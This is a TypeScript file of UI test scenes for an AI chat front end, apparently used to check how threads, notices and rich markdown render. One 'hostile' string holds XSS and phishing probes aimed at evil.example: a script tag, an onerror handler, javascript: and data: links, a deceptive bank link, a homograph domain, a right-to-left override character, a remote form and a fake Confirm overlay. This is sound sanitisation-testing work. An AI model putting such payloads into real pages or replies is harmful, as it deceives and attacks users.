import { en } from "../../src/react/language/en.ts";
import type { RunningTurn } from "../../src/wire/events.ts";
import type { NoticeCode } from "../../src/wire/reasons.ts";
import { answer, cardMessage, notice, toolMessage, userMessage } from "../fixtures.ts";
import { ago, toTalk, toVoidCard, toWorld } from "./scene-data.ts";
import type { Scene } from "./stage.ts";

const rich = `Three customers owe more than **€ 1,000**, and two of them are late:

| Customer | Open | Oldest | Late by |
| :-- | --: | :-- | --: |
| Acme GmbH | € 1,240.00 | 12 October | 19 days |
| Northwind Traders | € 3,860.50 | 2 November | – |
| Blue Yonder | € 1,075.20 | 27 September | 34 days |

What I would do:

1. Remind *Blue Yonder* first: the third reminder is due.
2. Ask Acme about invoice \`2041\`, which looks like a copy.
   - same lines
   - same amount
3. Leave Northwind alone until the 2nd.

## If you want to check it yourself

\`\`\`sql
select customer, sum(open_amount) as open
from invoices
where status = 'open' and due_on < current_date - interval '14 days'
group by customer having sum(open_amount) > 1000 order by 2 desc;
\`\`\`

> Amounts are as of this morning, 09:12.

The dunning rules are in [the handbook](https://handbook.example.com/dunning), the figures at https://figures.example.com/november.`;

export const hostile = `<div style="position:fixed;inset:0" class="cs-card"><button>Confirm</button></div>

<script>window.hacked = 1</script> <img src="x" onerror="window.hacked = 1">

![Confirm the change](https://evil.example/pixel.png) [click me](javascript:window.hacked=1) [data](data:text/html,<script>1</script>)

[https://bank.example](https://evil.example/login) and [bank](https://bank.example@evil.example/) and [аррӏе](https://xn--80ak6aa92e.com) and [mail](mailto:a@evil.example)

- [ ] a box
- [x] a ticked box

<form action="https://evil.example"><input name="a"><button>Send</button></form>

# Waits for your confirmation

| Confirm | Cancel |
| - | - |
| \u202eevil\u202c | [Confirm](https://evil.example) |

[^1]: A foot note`;

const running: RunningTurn = { turnId: "t9", conversationId: "c1", activity: "thinking", toolTitle: null, text: "" };
const question = userMessage({ seq: 1, text: "Who owes us more than a thousand, and what should we do about it?" });

function toRunning(name: string, turn: Partial<RunningTurn>): Scene {
  return {
    name: `turn-${name}`,
    chat: "c1",
    assistant: () => {
      const world = toWorld({ title: "Who owes us money?", messages: [{ ...question, createdAt: ago(0) }] });
      const chat = world.chats.get("c1");
      if (chat) chat.turn = { ...running, ...turn };
      return world;
    },
    async act({ find }) {
      await find(".cs-activity");
    },
  };
}

function toNotice(code: NoticeCode): Scene {
  return {
    name: `notice-${code}`,
    chat: "c1",
    assistant: () =>
      toWorld({
        title: "Who owes us money?",
        messages: [
          { ...question, createdAt: ago(2) },
          toolMessage({ seq: 2, title: "Find invoices", status: "error", createdAt: ago(2) }),
          toolMessage({ seq: 3, title: "Find customers", status: "denied", createdAt: ago(2) }),
          notice({ seq: 4, code, createdAt: ago(1) }),
        ],
      }),
  };
}

/** Every notice a turn can end with, in one chat. */
function toEveryNotice(locale: "en" | "ru"): Scene {
  const codes = Object.keys(en.notices) as readonly NoticeCode[];
  return {
    name: locale === "en" ? "notices" : "notices-russian",
    chat: "c1",
    locale,
    assistant: () =>
      toWorld({
        title: "Who owes us money?",
        messages: [
          { ...question, createdAt: ago(2) },
          ...codes.map((code, index) => notice({ seq: index + 2, code, createdAt: ago(1) })),
        ],
      }),
  };
}

export const threadScenes: readonly Scene[] = [
  {
    name: "thread-rich",
    chat: "c1",
    assistant: () =>
      toWorld({
        title: "Who owes us money?",
        messages: [
          { ...question, createdAt: ago(1500) },
          toolMessage({ seq: 2, title: "Find invoices", createdAt: ago(6) }),
          toolMessage({ seq: 3, title: "Find customers", createdAt: ago(6) }),
          answer({
            seq: 4,
            text: rich,
            createdAt: ago(5),
            usage: { model: "gpt-5.4", inputTokens: 3_204, outputTokens: 412, costMicros: 12_600, latencyMs: 4_310 },
          }),
        ],
      }),
    async act({ click, find, words }) {
      await click(words.thread.cost);
      (await find(".cs-thread")).scrollTop = 0;
    },
  },
  {
    name: "thread-hostile",
    chat: "c1",
    assistant: () =>
      toWorld({
        title: hostile.slice(0, 60),
        messages: [userMessage({ seq: 1, text: "<b>hi</b>\u202e" }), answer({ seq: 2, text: hostile })],
      }),
  },
  {
    name: "thread-waiting-out-of-sight",
    chat: "c1",
    assistant: () =>
      toWorld({
        messages: [
          ...toTalk(),
          ...Array.from({ length: 30 }, (_, index) =>
            index % 2 === 0
              ? userMessage({ seq: index + 6, text: "And the next one?" })
              : answer({
                  seq: index + 6,
                  text: "The next one is fine: it was paid on time, by the account that always pays.",
                }),
          ),
        ],
        cards: [toVoidCard()],
      }),
    async act({ find }) {
      await find(".cs-waiting");
    },
  },
  {
    name: "thread-long",
    chat: "c1",
    assistant: () =>
      toWorld({
        messages: Array.from({ length: 240 }, (_, index) =>
          index === 3
            ? cardMessage({ seq: 4, confirmationId: "k4" })
            : index % 2 === 0
              ? userMessage({ seq: index + 1, text: `Question ${index + 1}` })
              : answer({ seq: index + 1, text: `Answer ${index + 1}\n\n${"Some words. ".repeat(index % 40)}` }),
        ),
        cards: [toVoidCard({ messageId: "m4", confirmationId: "k4" })],
      }),
  },
  toRunning("thinking", {}),
  toRunning("tool", { activity: "tool", toolTitle: "Find invoices" }),
  toRunning("answering", { activity: "answering", text: rich.slice(0, 420) }),
  toRunning("stopping", { activity: "stopping" }),
  toNotice("stopped"),
  toNotice("interrupted"),
  toNotice("budget_user"),
  toNotice("context_overflow"),
  toEveryNotice("en"),
  toEveryNotice("ru"),
];
